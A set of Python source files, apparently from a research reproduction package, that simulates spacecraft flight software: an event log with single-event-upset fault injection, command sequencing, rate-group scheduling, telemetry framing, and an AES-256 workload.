        for severity, name, message, packed in self._pending:
            self._commit(FlightEvent(ctx.time, severity, name, message, packed))
            committed += 1
        self._pending.clear()
        ctx.emit(f"{self.name}.events_total", float(self.total_logged))
        ctx.emit(f"{self.name}.warnings_total", float(len(self.warnings())))
        return ActivityCost(
            instructions=10_000 + committed * _INSTRUCTIONS_PER_EVENT
        )

    def handle_command(self, opcode: str, args: dict) -> "str | None":
        if opcode == "CLEAR":
            self._events.clear()
            self._pending.clear()
            return None
        return super().handle_command(opcode, args)

    def telemetry_channels(self):
        return (f"{self.name}.events_total", f"{self.name}.warnings_total")

    # ------------------------------------------------------------------
    # Fault domain (see repro.sim.faults)
    # ------------------------------------------------------------------
    def _ring_offset(self, index: int) -> int:
        """Base byte offset of event ``index`` in the ``ring`` region:
        committed messages concatenate oldest-first."""
        return sum(
            len(self._events[i].message.encode("utf-8")) for i in range(index)
        )

    def fault_census(self) -> "tuple[FaultRegion, ...]":
        """The ring's message bytes — flight software state with no
        hardware protection; graceful degradation is the only shield."""
        live = sum(len(e.message.encode("utf-8")) for e in self._events)
        return (FaultRegion("ring", live * 8, protection="none",
                            scope="shared"),)

    def fault_strike(self, region: str, offset: int, bit: int) -> str:
        if region != "ring":
            raise InvalidAddressError(f"{self.name}: no fault region {region!r}")
        remaining = offset
        for idx, event in enumerate(self._events):
            raw = bytearray(event.message.encode("utf-8"))
            if remaining < len(raw):
                raw[remaining] ^= 1 << (bit & 7)
                corrupted = raw.decode("utf-8", errors="replace")
                self._events[idx] = dataclasses.replace(event, message=corrupted)
                self.struck += 1
                return f"event {idx} ({event.name}) message byte {remaining}"
            remaining -= len(raw)
        raise InvalidAddressError(
            f"{self.name}: offset {offset} outside the committed ring"
        )

    def strike(self, index: int, bit: int) -> "str | None":
        """Flip one bit in a committed EVR's message — an SEU landing
        in the ring buffer itself (the log's control plane).

        Legacy addressing kept for the control-plane campaign: ``index``
        wraps over committed events, ``bit`` folds onto the message.
        The contract under corruption is graceful degradation: the
        struck event may read as garbage, but the ring stays iterable
        and renderable, counts stay consistent, and no exception ever
        escapes into the flight loop. Returns a description of the
        strike, or ``None`` when the ring is empty (dead silicon).
        """
        if not self._events:
            return None
        index %= len(self._events)
        raw_len = len(self._events[index].message.encode("utf-8"))
        if not raw_len:
            return f"event {index}: empty message, strike absorbed"
        position = (bit // 8) % raw_len
        return self.fault_strike(
            "ring", self._ring_offset(index) + position, bit % 8
        )

    def events(self) -> "tuple[FlightEvent, ...]":
        """Committed events, oldest first (pending ones excluded)."""
        return tuple(self._events)

    def warnings(self) -> "tuple[FlightEvent, ...]":
        """Committed events at WARNING_LO severity or above."""
        return tuple(e for e in self._events
                     if e.severity >= EvrSeverity.WARNING_LO)

    def render(self) -> str:
        """The whole ring as downlink-ready text."""
        if not self._events:
            return "(event log empty)"
        lines = [event.render() for event in self._events]
        if self.dropped:
            lines.insert(0, f"({self.dropped} older event(s) overwritten)")
        return "\n".join(lines)
