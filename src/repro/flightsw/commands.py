"""Commanding: dispatcher and stored sequences.

Spacecraft "work in bursts due to the unpredictable and short
communication windows in space" (§3.1): a ground pass uplinks a
command sequence, the sequencer plays it back between passes. This is
the mechanism that produces the bursty duty cycle ILD exploits.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..errors import ConfigurationError
from .component import Component


@dataclass(frozen=True)
class Command:
    """One uplinked command."""

    component: str
    opcode: str
    args: "dict" = field(default_factory=dict)


@dataclass(frozen=True)
class CommandResponse:
    command: Command
    ok: bool
    message: str = ""


class CommandDispatcher:
    """Routes commands to components by name."""

    def __init__(self, components: "list[Component]") -> None:
        self._components: "dict[str, Component]" = {}
        for component in components:
            if component.name in self._components:
                raise ConfigurationError(f"duplicate component {component.name!r}")
            self._components[component.name] = component
        self.log: "list[CommandResponse]" = []

    def dispatch(self, command: Command) -> CommandResponse:
        component = self._components.get(command.component)
        if component is None:
            response = CommandResponse(
                command, ok=False, message=f"no component {command.component!r}"
            )
        else:
            error = component.handle_command(command.opcode, dict(command.args))
            response = CommandResponse(command, ok=error is None, message=error or "")
        self.log.append(response)
        return response


@dataclass(frozen=True)
class TimedCommand:
    """A sequence entry: fire ``command`` at ``time`` (mission seconds)."""

    time: float
    command: Command

    def __post_init__(self) -> None:
        if self.time < 0:
            raise ConfigurationError("command time must be >= 0")


class Sequencer:
    """Plays a stored command sequence against the dispatcher."""

    def __init__(self, dispatcher: CommandDispatcher,
                 sequence: "list[TimedCommand]") -> None:
        self.dispatcher = dispatcher
        self.sequence = sorted(sequence, key=lambda tc: tc.time)
        self._cursor = 0

    @property
    def pending(self) -> int:
        return len(self.sequence) - self._cursor

    def advance_to(self, time: float) -> "list[CommandResponse]":
        """Dispatch every command whose time has arrived."""
        fired = []
        while (
            self._cursor < len(self.sequence)
            and self.sequence[self._cursor].time <= time
        ):
            fired.append(self.dispatcher.dispatch(self.sequence[self._cursor].command))
            self._cursor += 1
        return fired
