"""A miniature F´-style flight-software framework (substrate of §4.1)."""

from .commands import (
    Command,
    CommandDispatcher,
    CommandResponse,
    Sequencer,
    TimedCommand,
)
from .component import ActivityCost, Component, TickContext
from .components_std import (
    AttitudeEstimator,
    CameraManager,
    DownlinkManager,
    PowerMonitor,
    ThermalController,
    standard_components,
)
from .eventlog import EventLog, EvrSeverity, FlightEvent
from .profile import (
    activity_to_segments,
    flight_schedule,
    ground_pass_sequence,
)
from .rategroups import ActivityInterval, RateGroupScheduler, ScheduleResult
from .telemetry import TelemetryDb, TelemetrySample, build_frame, parse_frame

__all__ = [
    "ActivityCost",
    "ActivityInterval",
    "AttitudeEstimator",
    "CameraManager",
    "Command",
    "CommandDispatcher",
    "CommandResponse",
    "Component",
    "DownlinkManager",
    "EventLog",
    "EvrSeverity",
    "FlightEvent",
    "PowerMonitor",
    "RateGroupScheduler",
    "ScheduleResult",
    "Sequencer",
    "TelemetryDb",
    "TelemetrySample",
    "ThermalController",
    "TickContext",
    "TimedCommand",
    "activity_to_segments",
    "build_frame",
    "flight_schedule",
    "ground_pass_sequence",
    "parse_frame",
    "standard_components",
]
