"""Rate-group scheduling and the activity timeline.

F´ dispatches components from fixed-rate groups (1 Hz housekeeping,
10 Hz control, ...). The scheduler here does the same over simulated
time and aggregates each component's :class:`ActivityCost` into
per-interval totals — the bridge from flight software to the machine's
telemetry-mode activity profile.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..errors import ConfigurationError
from .commands import Sequencer
from .component import ActivityCost, Component, TickContext
from .telemetry import TelemetryDb


@dataclass
class ActivityInterval:
    """Aggregated activity over one wall interval."""

    start: float
    duration: float
    cost: ActivityCost


@dataclass
class ScheduleResult:
    intervals: "list[ActivityInterval]"
    telemetry: TelemetryDb
    dispatches: int

    @property
    def total_cost(self) -> ActivityCost:
        total = ActivityCost()
        for interval in self.intervals:
            total = total + interval.cost
        return total


class RateGroupScheduler:
    """Dispatches components at their rates over a span of time."""

    def __init__(
        self,
        components: "list[Component]",
        base_rate_hz: float = 10.0,
        aggregate_seconds: float = 1.0,
    ) -> None:
        if base_rate_hz <= 0 or aggregate_seconds <= 0:
            raise ConfigurationError("rates must be positive")
        self.components = list(components)
        self.base_rate_hz = base_rate_hz
        self.aggregate_seconds = aggregate_seconds
        for component in self.components:
            if component.rate_hz > base_rate_hz:
                raise ConfigurationError(
                    f"{component.name}: rate {component.rate_hz} Hz exceeds "
                    f"base rate {base_rate_hz} Hz"
                )
            cycle = base_rate_hz / component.rate_hz
            if abs(cycle - round(cycle)) > 1e-9:
                raise ConfigurationError(
                    f"{component.name}: rate {component.rate_hz} Hz does not "
                    f"divide the base rate {base_rate_hz} Hz"
                )

    def run(
        self,
        duration: float,
        rng: "np.random.Generator | None" = None,
        sequencer: "Sequencer | None" = None,
        telemetry: "TelemetryDb | None" = None,
        start_time: float = 0.0,
    ) -> ScheduleResult:
        if duration <= 0:
            raise ConfigurationError("duration must be positive")
        rng = rng or np.random.default_rng(0)
        telemetry = telemetry or TelemetryDb()
        dt = 1.0 / self.base_rate_hz
        n_ticks = int(round(duration * self.base_rate_hz))
        ticks_per_interval = max(1, int(round(self.aggregate_seconds / dt)))

        intervals: "list[ActivityInterval]" = []
        current = ActivityCost()
        interval_start = start_time
        dispatches = 0
        dividers = {
            component.name: int(round(self.base_rate_hz / component.rate_hz))
            for component in self.components
        }
        for tick_index in range(n_ticks):
            now = start_time + tick_index * dt
            if sequencer is not None:
                sequencer.advance_to(now)
            ctx = TickContext(time=now, dt=dt, telemetry=telemetry, rng=rng)
            for component in self.components:
                if not component.enabled:
                    continue
                if tick_index % dividers[component.name]:
                    continue
                current = current + component.tick(ctx)
                dispatches += 1
            if (tick_index + 1) % ticks_per_interval == 0:
                intervals.append(
                    ActivityInterval(
                        start=interval_start,
                        duration=ticks_per_interval * dt,
                        cost=current,
                    )
                )
                current = ActivityCost()
                interval_start = start_time + (tick_index + 1) * dt
        if current != ActivityCost():
            leftover = n_ticks % ticks_per_interval or ticks_per_interval
            intervals.append(
                ActivityInterval(
                    start=interval_start, duration=leftover * dt, cost=current
                )
            )
        return ScheduleResult(
            intervals=intervals, telemetry=telemetry, dispatches=dispatches
        )
