"""Bridging flight software to the machine's telemetry mode.

The rate-group scheduler produces per-interval :class:`ActivityCost`
totals; this module converts them into the
:class:`~repro.sim.telemetry.ActivitySegment` stream the trace
generator consumes — so the current trace ILD watches is driven by
*actual flight software behaviour* (commanded slews, capture
processing, downlink passes) rather than a hand-written schedule.
"""

from __future__ import annotations

import numpy as np

from ..errors import ConfigurationError
from ..sim.core import CoreSpec
from ..sim.telemetry import ActivitySegment
from .commands import Command, CommandDispatcher, Sequencer, TimedCommand
from .component import Component
from .components_std import standard_components
from .rategroups import RateGroupScheduler, ScheduleResult


def activity_to_segments(
    result: ScheduleResult,
    n_cores: int = 4,
    core_spec: "CoreSpec | None" = None,
    quiescent_core_equivalents: float = 0.12,
) -> "list[ActivitySegment]":
    """Convert aggregated activity intervals into activity segments.

    Instructions are spread greedily across cores at max frequency
    (flight tasks are thread-parallel and the governor boosts under
    load); DRAM and disk traffic map directly to segment rates.
    """
    spec = core_spec or CoreSpec()
    per_core_rate = spec.base_ipc * spec.max_freq
    segments: "list[ActivitySegment]" = []
    for interval in result.intervals:
        if interval.duration <= 0:
            raise ConfigurationError("interval with non-positive duration")
        rate = interval.cost.instructions / interval.duration
        core_equivalents = rate / per_core_rate
        utils = []
        remaining = core_equivalents
        for _ in range(n_cores):
            utils.append(float(min(1.0, max(0.0, remaining))))
            remaining -= utils[-1]
        quiescent = core_equivalents < quiescent_core_equivalents
        segments.append(
            ActivitySegment(
                duration=interval.duration,
                core_util=tuple(utils),
                label="quiescent" if quiescent else "flightsw",
                quiescent=quiescent,
                util_jitter=0.015,
                dram_gbs=interval.cost.dram_bytes / interval.duration / 1e9,
                disk_read_iops=interval.cost.disk_reads / interval.duration,
                disk_write_iops=interval.cost.disk_writes / interval.duration,
            )
        )
    return segments


def ground_pass_sequence(
    start: float = 120.0,
    capture_frames: int = 1,
    slew_seconds: float = 25.0,
    downlink_seconds: float = 45.0,
) -> "list[TimedCommand]":
    """A typical pass: slew to target, capture, process, downlink."""
    return [
        TimedCommand(start, Command("adcs", "SLEW", {"seconds": slew_seconds})),
        TimedCommand(
            start + slew_seconds + 2.0,
            Command("camera", "CAPTURE", {"frames": capture_frames}),
        ),
        TimedCommand(
            start + slew_seconds + 150.0,
            Command("downlink", "START_PASS", {"seconds": downlink_seconds}),
        ),
    ]


def flight_schedule(
    duration: float,
    rng: "np.random.Generator | None" = None,
    components: "list[Component] | None" = None,
    sequence: "list[TimedCommand] | None" = None,
    n_cores: int = 4,
) -> "tuple[list[ActivitySegment], ScheduleResult]":
    """Run flight software for ``duration`` seconds and return both the
    activity-segment stream and the schedule result (telemetry etc.).

    Without an explicit sequence, ground passes repeat every ~10
    minutes — the bursty cadence of §3.1.
    """
    rng = rng or np.random.default_rng(0)
    components = components if components is not None else standard_components()
    if sequence is None:
        sequence = []
        pass_start = 120.0
        while pass_start < duration - 60.0:
            sequence.extend(ground_pass_sequence(start=pass_start))
            pass_start += float(rng.uniform(480.0, 720.0))
    dispatcher = CommandDispatcher(components)
    sequencer = Sequencer(dispatcher, sequence)
    scheduler = RateGroupScheduler(components, base_rate_hz=10.0)
    result = scheduler.run(duration, rng=rng, sequencer=sequencer)
    return activity_to_segments(result, n_cores=n_cores), result
