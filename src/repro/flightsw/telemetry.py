"""Telemetry database and downlink framing.

Flight telemetry is the other half of the §5 story: ILD's diagnostics
ride down in telemetry frames. Channels are bounded ring buffers; a
downlink frame snapshots the latest value of every channel with a
CRC32 trailer (the same from-scratch CRC the checksum scheme uses),
so ground can reject frames corrupted in transit or by an SEU in the
downlink buffer.
"""

from __future__ import annotations

import struct
from collections import deque
from dataclasses import dataclass

from ..core.emr.checksum import crc32
from ..errors import ConfigurationError, WorkloadError


@dataclass(frozen=True)
class TelemetrySample:
    time: float
    value: float


class TelemetryDb:
    """name -> bounded history of samples."""

    def __init__(self, history_per_channel: int = 2048) -> None:
        if history_per_channel < 1:
            raise ConfigurationError("history must be >= 1")
        self.history_per_channel = history_per_channel
        self._channels: "dict[str, deque]" = {}

    def store(self, channel: str, time: float, value: float) -> None:
        buffer = self._channels.get(channel)
        if buffer is None:
            buffer = deque(maxlen=self.history_per_channel)
            self._channels[channel] = buffer
        buffer.append(TelemetrySample(time, float(value)))

    def channels(self) -> "tuple[str, ...]":
        return tuple(sorted(self._channels))

    def latest(self, channel: str) -> "TelemetrySample | None":
        buffer = self._channels.get(channel)
        return buffer[-1] if buffer else None

    def history(self, channel: str) -> "tuple[TelemetrySample, ...]":
        return tuple(self._channels.get(channel, ()))

    def __len__(self) -> int:
        return len(self._channels)


# ----------------------------------------------------------------------
# Downlink framing
# ----------------------------------------------------------------------

_MAGIC = b"RSTL"  # RadShield TeLemetry


def build_frame(db: TelemetryDb, frame_time: float) -> bytes:
    """Snapshot every channel's latest value into one CRC'd frame.

    Layout: magic, f64 time, u16 channel count, then per channel a
    u8-length-prefixed UTF-8 name + f64 time + f64 value; u32 CRC32 of
    everything preceding it.
    """
    body = bytearray(_MAGIC)
    body += struct.pack("<d", frame_time)
    channels = db.channels()
    body += struct.pack("<H", len(channels))
    for channel in channels:
        sample = db.latest(channel)
        encoded = channel.encode("utf-8")
        if len(encoded) > 255:
            raise ConfigurationError(f"channel name too long: {channel!r}")
        body += struct.pack("<B", len(encoded)) + encoded
        body += struct.pack("<dd", sample.time, sample.value)
    body += struct.pack("<I", crc32(bytes(body)))
    return bytes(body)


def parse_frame(frame: bytes) -> "tuple[float, dict]":
    """Inverse of :func:`build_frame`; raises on CRC or layout errors."""
    if len(frame) < len(_MAGIC) + 8 + 2 + 4:
        raise WorkloadError("telemetry frame truncated")
    payload, crc_bytes = frame[:-4], frame[-4:]
    if crc32(payload) != struct.unpack("<I", crc_bytes)[0]:
        raise WorkloadError("telemetry frame failed CRC")
    if not payload.startswith(_MAGIC):
        raise WorkloadError("bad frame magic")
    offset = len(_MAGIC)
    frame_time = struct.unpack_from("<d", payload, offset)[0]
    offset += 8
    count = struct.unpack_from("<H", payload, offset)[0]
    offset += 2
    values: "dict[str, tuple]" = {}
    for _ in range(count):
        name_length = payload[offset]
        offset += 1
        name = payload[offset : offset + name_length].decode("utf-8")
        offset += name_length
        sample_time, value = struct.unpack_from("<dd", payload, offset)
        offset += 16
        values[name] = (sample_time, value)
    return frame_time, values
