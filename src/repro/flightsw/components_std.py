"""Stock flight-software components.

A representative SmallSat component set: light housekeeping that runs
forever (the quiescent floor), plus commanded payloads (attitude
slews, camera captures, downlinks) that create the compute bursts ILD
must coexist with.
"""

from __future__ import annotations

from ..errors import ConfigurationError
from .component import ActivityCost, Component, TickContext


class ThermalController(Component):
    """1 Hz heater-loop housekeeping: tiny, perpetual."""

    rate_hz = 1.0

    def __init__(self, name: str = "thermal") -> None:
        super().__init__(name)
        self._temperature = 21.0

    def tick(self, ctx: TickContext) -> ActivityCost:
        self._temperature += float(ctx.rng.normal(0.0, 0.05))
        ctx.emit(f"{self.name}.plate_temp_c", self._temperature)
        return ActivityCost(instructions=60_000, dram_bytes=4_096)

    def handle_command(self, opcode: str, args: dict) -> "str | None":
        if opcode == "SET_SETPOINT":
            self._temperature = float(args.get("celsius", 21.0))
            return None
        return super().handle_command(opcode, args)

    def telemetry_channels(self):
        return (f"{self.name}.plate_temp_c",)


class PowerMonitor(Component):
    """1 Hz EPS sampling: reads the current sensor, emits telemetry."""

    rate_hz = 1.0

    def __init__(self, name: str = "power") -> None:
        super().__init__(name)
        self.last_current = 1.8

    def tick(self, ctx: TickContext) -> ActivityCost:
        self.last_current = 1.8 + float(ctx.rng.normal(0.0, 0.01))
        ctx.emit(f"{self.name}.bus_current_a", self.last_current)
        ctx.emit(f"{self.name}.bus_voltage_v", 5.0)
        return ActivityCost(instructions=45_000, disk_writes=1)

    def telemetry_channels(self):
        return (f"{self.name}.bus_current_a", f"{self.name}.bus_voltage_v")


class AttitudeEstimator(Component):
    """10 Hz ADCS: light while pointing, heavy while slewing."""

    rate_hz = 10.0

    def __init__(self, name: str = "adcs") -> None:
        super().__init__(name)
        self._slew_ticks_left = 0

    def tick(self, ctx: TickContext) -> ActivityCost:
        slewing = self._slew_ticks_left > 0
        if slewing:
            self._slew_ticks_left -= 1
        ctx.emit(f"{self.name}.slewing", float(slewing))
        if slewing:
            # Dense matrix math: Kalman update + control law.
            return ActivityCost(instructions=28_000_000, dram_bytes=2_000_000)
        return ActivityCost(instructions=350_000, dram_bytes=40_000)

    def handle_command(self, opcode: str, args: dict) -> "str | None":
        if opcode == "SLEW":
            seconds = float(args.get("seconds", 30.0))
            if seconds <= 0:
                return "slew duration must be positive"
            self._slew_ticks_left = int(seconds * self.rate_hz)
            return None
        return super().handle_command(opcode, args)

    def telemetry_channels(self):
        return (f"{self.name}.slewing",)


class CameraManager(Component):
    """Commanded capture + processing bursts (the payload)."""

    rate_hz = 1.0

    def __init__(self, name: str = "camera", process_seconds: float = 40.0) -> None:
        super().__init__(name)
        if process_seconds <= 0:
            raise ConfigurationError("process_seconds must be positive")
        self.process_seconds = process_seconds
        self._processing_left = 0
        self.captures = 0

    def tick(self, ctx: TickContext) -> ActivityCost:
        ctx.emit(f"{self.name}.queue_depth", float(self._processing_left))
        if self._processing_left > 0:
            self._processing_left -= 1
            # Image pipeline: demosaic + compress + index, all cores.
            return ActivityCost(
                instructions=5_200_000_000,
                dram_bytes=400_000_000,
                disk_writes=40,
            )
        return ActivityCost(instructions=25_000)

    def handle_command(self, opcode: str, args: dict) -> "str | None":
        if opcode == "CAPTURE":
            frames = int(args.get("frames", 1))
            if frames < 1:
                return "need at least one frame"
            self.captures += frames
            self._processing_left += int(self.process_seconds * frames)
            return None
        return super().handle_command(opcode, args)

    def telemetry_channels(self):
        return (f"{self.name}.queue_depth",)


class DownlinkManager(Component):
    """Commanded downlink passes: disk-read heavy, modest CPU."""

    rate_hz = 1.0

    def __init__(self, name: str = "downlink") -> None:
        super().__init__(name)
        self._pass_ticks_left = 0
        self.frames_sent = 0

    def tick(self, ctx: TickContext) -> ActivityCost:
        active = self._pass_ticks_left > 0
        ctx.emit(f"{self.name}.pass_active", float(active))
        if active:
            self._pass_ticks_left -= 1
            self.frames_sent += 1
            return ActivityCost(
                instructions=700_000_000, dram_bytes=60_000_000,
                disk_reads=120, disk_writes=4,
            )
        return ActivityCost(instructions=15_000)

    def handle_command(self, opcode: str, args: dict) -> "str | None":
        if opcode == "START_PASS":
            seconds = float(args.get("seconds", 60.0))
            if seconds <= 0:
                return "pass duration must be positive"
            self._pass_ticks_left = int(seconds * self.rate_hz)
            return None
        return super().handle_command(opcode, args)

    def telemetry_channels(self):
        return (f"{self.name}.pass_active",)


def standard_components() -> "list[Component]":
    """The default SmallSat component set."""
    return [
        ThermalController(),
        PowerMonitor(),
        AttitudeEstimator(),
        CameraManager(),
        DownlinkManager(),
    ]
