"""Workload interface shared by EMR, the baselines, and telemetry.

EMR's programming model (§3.2, Fig 7) asks the developer for two
things: a description of *which memory each computation reads* (the
``InputData`` structs) and the job function itself. The Python analog:

* :class:`RegionRef` — one input region, identified by
  ``(blob, offset, length)``. Identity matters: EMR detects "common
  data" by looking "for datasets within the input data with identical
  pointers and offsets", i.e. equal :class:`RegionRef`\\ s.
* :class:`DatasetSpec` — the regions (by role) one job consumes, plus
  small scalar params (block index, etc.).
* :class:`WorkloadSpec` — the blobs (actual bytes) and the dataset
  list for one problem instance.
* :class:`Workload.run_job` — the pure computation: role -> bytes in,
  output bytes back. EMR feeds it bytes fetched *through the simulated
  cache*, so cached corruption flows into real computation and wrong
  answers come out — which is what the voters catch.
"""

from __future__ import annotations

import abc
from dataclasses import dataclass, field

import numpy as np

from ..errors import ConfigurationError, WorkloadError
from ..sim.telemetry import ActivitySegment


@dataclass(frozen=True)
class RegionRef:
    """A blob-relative input region. Equal refs = shared data."""

    blob: str
    offset: int
    length: int

    def __post_init__(self) -> None:
        if self.offset < 0 or self.length <= 0:
            raise ConfigurationError(
                f"region {self.blob}[{self.offset}:{self.offset + self.length}] invalid"
            )

    @property
    def end(self) -> int:
        return self.offset + self.length

    def overlaps(self, other: "RegionRef") -> bool:
        if self.blob != other.blob:
            return False
        return self.offset < other.end and other.offset < self.end

    def line_range(self, line_size: int) -> "tuple[int, int]":
        """Inclusive first/last cache-line index (blob-relative)."""
        return self.offset // line_size, (self.end - 1) // line_size


@dataclass(frozen=True)
class DatasetSpec:
    """One computation's inputs: role -> region, plus scalar params."""

    index: int
    regions: "dict[str, RegionRef]"
    params: "dict[str, object]" = field(default_factory=dict)

    def __post_init__(self) -> None:
        if not self.regions:
            raise ConfigurationError(f"dataset {self.index} has no input regions")


@dataclass
class WorkloadSpec:
    """A fully-materialized problem instance."""

    name: str
    blobs: "dict[str, bytes]"
    datasets: "list[DatasetSpec]"
    output_size: int  # upper bound on per-job output bytes

    def __post_init__(self) -> None:
        if not self.datasets:
            raise ConfigurationError(f"{self.name}: no datasets")
        if self.output_size <= 0:
            raise ConfigurationError(f"{self.name}: output_size must be positive")
        for ds in self.datasets:
            for role, ref in ds.regions.items():
                blob = self.blobs.get(ref.blob)
                if blob is None:
                    raise ConfigurationError(
                        f"{self.name}: dataset {ds.index} role {role!r} "
                        f"references unknown blob {ref.blob!r}"
                    )
                if ref.end > len(blob):
                    raise ConfigurationError(
                        f"{self.name}: dataset {ds.index} role {role!r} "
                        f"overruns blob {ref.blob!r} ({ref.end} > {len(blob)})"
                    )

    def slice_inputs(self, dataset: DatasetSpec) -> "dict[str, bytes]":
        """Read a dataset's inputs straight from the spec (no machine):
        the golden path used for reference outputs."""
        return {
            role: self.blobs[ref.blob][ref.offset : ref.end]
            for role, ref in dataset.regions.items()
        }

    @property
    def total_input_bytes(self) -> int:
        return sum(len(blob) for blob in self.blobs.values())


class Workload(abc.ABC):
    """One spacecraft compute task (a Table 5 row)."""

    #: Short identifier ("encryption", "image_processing", ...).
    name: str = "abstract"
    #: The state-of-the-art library the paper pairs the workload with.
    library_analog: str = ""
    #: Replication strategy the paper reports as optimal (Table 5).
    paper_replication_strategy: str = ""
    #: Replication threshold the experiment drivers use. The paper's
    #: production default is 0.01 with thousands of datasets; at this
    #: reproduction's reduced dataset counts the same *semantics*
    #: ("replicate only data shared across a large share of jobs")
    #: correspond to a larger fraction. Fig 13 sweeps this knob.
    default_replication_threshold: float = 0.2

    @abc.abstractmethod
    def build(self, rng: np.random.Generator, scale: int = 1) -> WorkloadSpec:
        """Materialize a problem instance. ``scale`` grows input size
        roughly linearly (benchmarks sweep it)."""

    @abc.abstractmethod
    def run_job(self, inputs: "dict[str, bytes]", params: "dict[str, object]") -> bytes:
        """The computation. Must be deterministic in its inputs."""

    def instructions_per_job(self, dataset: DatasetSpec) -> int:
        """Estimated retired instructions for one job (drives simulated
        timing/energy). Default: proportional to input bytes."""
        total = sum(ref.length for ref in dataset.regions.values())
        return max(1000, total * 120)

    def reference_outputs(self, spec: WorkloadSpec) -> "list[bytes]":
        """Golden outputs computed outside the machine (no faults)."""
        return [
            self.run_job(spec.slice_inputs(ds), dict(ds.params))
            for ds in spec.datasets
        ]

    def activity_segment(self, duration: float, n_cores: int = 4) -> ActivitySegment:
        """Telemetry-mode profile of this workload under full drive."""
        return ActivitySegment(
            duration=duration,
            core_util=(0.9,) * n_cores,
            label=f"workload:{self.name}",
            dram_gbs=0.6,
            branch_miss_rate=0.035,
            cache_hit_rate=0.95,
        )

    def validate_output(self, output: bytes) -> None:
        """Hook for workloads with checkable output structure."""
        if output is None:
            raise WorkloadError(f"{self.name}: job returned no output")

    def __repr__(self) -> str:
        return f"{type(self).__name__}(name={self.name!r})"
