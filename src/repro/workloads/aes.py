"""AES-256-ECB implemented from scratch (the paper's OpenSSL analog).

Encryption is the paper's canonical shared-key workload: every job
encrypts its own plaintext chunk with the *same* 256-bit key, so EMR's
common-data detector replicates the key per executor ("encryption
worked best when the data was shared, but the key was replicated",
§4.2.4) — and an SEU flipping a cached key byte corrupts only one
executor's ciphertext, which the voters out-vote. The paper also notes
the security stakes: "SEUs during AES encryption can leak the
encryption key to attackers" (§2).

The implementation follows FIPS-197: the S-box is *derived* (GF(2⁸)
inverse + affine map) rather than pasted, key expansion handles the
Nk=8 schedule, and the inverse cipher is included so tests can prove
roundtrips and known-answer vectors.
"""

from __future__ import annotations

import numpy as np

from ..errors import WorkloadError
from .base import DatasetSpec, RegionRef, Workload, WorkloadSpec

# ----------------------------------------------------------------------
# GF(2^8) arithmetic and table construction
# ----------------------------------------------------------------------


def _xtime(a: int) -> int:
    a <<= 1
    if a & 0x100:
        a ^= 0x11B
    return a & 0xFF


def _gf_mul(a: int, b: int) -> int:
    result = 0
    while b:
        if b & 1:
            result ^= a
        a = _xtime(a)
        b >>= 1
    return result


def _build_sbox() -> "tuple[list, list]":
    """Derive the AES S-box: multiplicative inverse then affine map."""
    # Build inverses via the generator 3 of GF(2^8)*.
    exp = [0] * 255
    log = [0] * 256
    value = 1
    for i in range(255):
        exp[i] = value
        log[value] = i
        value = _gf_mul(value, 3)
    sbox = [0] * 256
    for x in range(256):
        inv = 0 if x == 0 else exp[(255 - log[x]) % 255]
        y = inv
        result = inv
        for _ in range(4):
            y = ((y << 1) | (y >> 7)) & 0xFF
            result ^= y
        sbox[x] = result ^ 0x63
    inv_sbox = [0] * 256
    for x, s in enumerate(sbox):
        inv_sbox[s] = x
    return sbox, inv_sbox


_SBOX, _INV_SBOX = _build_sbox()
_RCON = [0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1B, 0x36, 0x6C]

_NB = 4  # columns per state
_NK = 8  # key words (AES-256)
_NR = 14  # rounds (AES-256)


def expand_key(key: bytes) -> "list[list[int]]":
    """FIPS-197 key expansion: 32-byte key -> 60 four-byte words."""
    if len(key) != 32:
        raise WorkloadError(f"AES-256 key must be 32 bytes, got {len(key)}")
    words = [list(key[4 * i : 4 * i + 4]) for i in range(_NK)]
    for i in range(_NK, _NB * (_NR + 1)):
        temp = list(words[i - 1])
        if i % _NK == 0:
            temp = temp[1:] + temp[:1]  # RotWord
            temp = [_SBOX[b] for b in temp]  # SubWord
            temp[0] ^= _RCON[i // _NK - 1]
        elif i % _NK == 4:
            temp = [_SBOX[b] for b in temp]
        words.append([a ^ b for a, b in zip(words[i - _NK], temp)])
    return words


def _add_round_key(state: "list[int]", words, round_index: int) -> None:
    for col in range(4):
        word = words[round_index * 4 + col]
        for row in range(4):
            state[4 * col + row] ^= word[row]


def _sub_bytes(state: "list[int]", box) -> None:
    for i in range(16):
        state[i] = box[state[i]]


def _shift_rows(state: "list[int]") -> None:
    for row in range(1, 4):
        column_values = [state[4 * col + row] for col in range(4)]
        shifted = column_values[row:] + column_values[:row]
        for col in range(4):
            state[4 * col + row] = shifted[col]


def _inv_shift_rows(state: "list[int]") -> None:
    for row in range(1, 4):
        column_values = [state[4 * col + row] for col in range(4)]
        shifted = column_values[-row:] + column_values[:-row]
        for col in range(4):
            state[4 * col + row] = shifted[col]


def _mix_columns(state: "list[int]") -> None:
    for col in range(4):
        a = state[4 * col : 4 * col + 4]
        state[4 * col + 0] = _gf_mul(a[0], 2) ^ _gf_mul(a[1], 3) ^ a[2] ^ a[3]
        state[4 * col + 1] = a[0] ^ _gf_mul(a[1], 2) ^ _gf_mul(a[2], 3) ^ a[3]
        state[4 * col + 2] = a[0] ^ a[1] ^ _gf_mul(a[2], 2) ^ _gf_mul(a[3], 3)
        state[4 * col + 3] = _gf_mul(a[0], 3) ^ a[1] ^ a[2] ^ _gf_mul(a[3], 2)


def _inv_mix_columns(state: "list[int]") -> None:
    for col in range(4):
        a = state[4 * col : 4 * col + 4]
        state[4 * col + 0] = (
            _gf_mul(a[0], 14) ^ _gf_mul(a[1], 11) ^ _gf_mul(a[2], 13) ^ _gf_mul(a[3], 9)
        )
        state[4 * col + 1] = (
            _gf_mul(a[0], 9) ^ _gf_mul(a[1], 14) ^ _gf_mul(a[2], 11) ^ _gf_mul(a[3], 13)
        )
        state[4 * col + 2] = (
            _gf_mul(a[0], 13) ^ _gf_mul(a[1], 9) ^ _gf_mul(a[2], 14) ^ _gf_mul(a[3], 11)
        )
        state[4 * col + 3] = (
            _gf_mul(a[0], 11) ^ _gf_mul(a[1], 13) ^ _gf_mul(a[2], 9) ^ _gf_mul(a[3], 14)
        )


# ----------------------------------------------------------------------
# Vectorized cipher: all blocks at once
# ----------------------------------------------------------------------
#
# The scalar cipher above walks one 16-byte state through per-byte
# Python loops; encrypting a chunk costs ~1100 interpreted operations
# per byte. The batched kernel below keeps every block of the message
# in one ``(n_blocks, 16)`` uint8 array and applies each round as
